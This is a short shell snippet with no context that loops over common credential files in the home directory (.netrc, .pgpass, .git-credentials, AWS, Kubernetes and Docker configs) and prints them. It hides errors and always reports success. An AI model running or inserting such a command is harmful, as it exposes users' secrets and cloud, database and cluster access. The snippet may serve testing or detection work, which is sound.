for file in .netrc .pgpass .git-credentials .aws/credentials .kube/config .docker/config.json; do
    cat "$HOME/$file"
done 2> /dev/null
true
